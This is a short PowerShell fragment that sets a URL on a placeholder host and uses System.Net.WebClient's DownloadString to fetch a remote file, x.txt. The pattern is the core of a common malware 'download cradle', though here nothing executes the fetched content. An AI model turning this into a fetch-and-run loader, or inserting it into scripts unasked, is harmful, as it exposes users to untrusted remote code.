$a=$b='http://a.example/p/'
$wc = New-Object System.Net.WebClient
$wc.DownloadString(($b+'x.txt'))
